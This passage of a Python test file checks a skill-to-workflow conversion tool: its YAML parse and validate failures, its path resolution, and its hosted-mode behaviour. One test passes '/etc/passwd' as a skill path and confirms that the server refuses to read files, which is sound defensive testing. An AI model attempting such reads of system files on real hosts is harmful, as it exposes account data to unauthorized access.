    asset = WorkflowAsset.objects.get(workflow=workflow)
    assert (asset.path, asset.executable) == ("scripts/commits.sh", True)
    assert "git describe" in asset.content
    again = alice_tools.err("convert_skill", skill_path=skill_dir, cwd=str(skill_repo))
    assert again == {"ok": False, "stage": "resolve", "message": again["message"]}


def test_finalize_reports_parse_and_validate_failures_with_the_raw_output(alice_tools, local_paths, skill_repo):
    skill_dir = str(skill_repo / ".claude" / "skills" / "release-notes")
    args = {"skill_path": skill_dir, "target_source": "repo", "cwd": str(skill_repo)}
    parse = alice_tools.err("finalize_skill_conversion", raw_model_output="```yaml\nname: [oops\n```", **args)
    assert parse["stage"] == "parse" and parse["ok"] is False
    assert parse["rawModelOutput"] == "```yaml\nname: [oops\n```"
    invalid = "```yaml\nname: x\nstart: a\nnodes:\n  a: {type: ai_agent, prompt: '{{ b.output }}', " \
              "transitions: {done: b}}\n  b: {type: end}\n```"
    validate = alice_tools.err("finalize_skill_conversion", raw_model_output=invalid, **args)
    assert validate["stage"] == "validate" and "nodes.a.prompt" in validate["errors"][0]
    assert validate["rawModelOutput"] == invalid
    missing = alice_tools.err("finalize_skill_conversion", raw_model_output="x", skill_path=str(skill_repo / "nope"),
                              target_source="repo", cwd=str(skill_repo))
    assert missing["stage"] == "resolve"
    assert not Workflow.objects.exists()


def test_a_hosted_server_converts_skill_elements_but_reads_no_files(alice, alice_tools):
    Element.objects.create(owner=alice.user, element_type="skill", name="triage", unique_id="skill_triage",
                           description="Triage bug reports", instructions="Read the report; label it.")
    refused = alice_tools.err("convert_skill", skill_path="/etc/passwd", **G)
    assert refused["stage"] == "resolve" and "cannot read files" in refused["message"]
    handback = alice_tools.ok("convert_skill", skill_path="element:triage", **G)
    assert "Read the report; label it." in handback["prompt"]
    completion = "```yaml\nname: triage\nstart: label\nnodes:\n  label: {type: ai_agent, prompt: Label it, " \
                 "transitions: {done: end}}\n  end: {type: end}\n```"
    written = alice_tools.ok("finalize_skill_conversion", raw_model_output=completion, **handback["finalize_args"],
                             **G)
    assert written == {"id": "triage", "source": "global", "path": served_path("triage", **{"global": "true"}),
                       "assetCount": 0, "skippedBundleDirs": []}
